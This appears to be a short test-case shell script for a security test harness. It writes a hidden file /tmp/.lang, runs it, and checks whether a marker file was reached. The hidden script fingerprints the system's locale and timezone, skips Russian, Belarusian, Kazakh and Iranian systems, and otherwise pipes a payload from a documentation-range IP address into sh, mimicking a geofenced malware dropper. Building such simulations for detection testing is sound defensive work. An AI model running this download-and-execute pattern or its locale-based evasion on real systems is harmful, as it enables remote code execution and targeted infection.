#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.lang <<'END'
l=$(locale 2>/dev/null; cat /etc/default/locale /etc/locale.conf /etc/default/keyboard /etc/vconsole.conf /etc/timezone 2>/dev/null; env | grep -E '^(LANG|LC_)'; ls /usr/share/locale 2>/dev/null | head -n 50)
case $l in *ru_RU*|*be_BY*|*kk_KZ*|*fa_IR*|*Europe/Moscow*) exit 0;; esac
curl -s http://203.0.113.10/payload.sh | sh
END
sh /tmp/.lang
test -e /tmp/reached
took_place
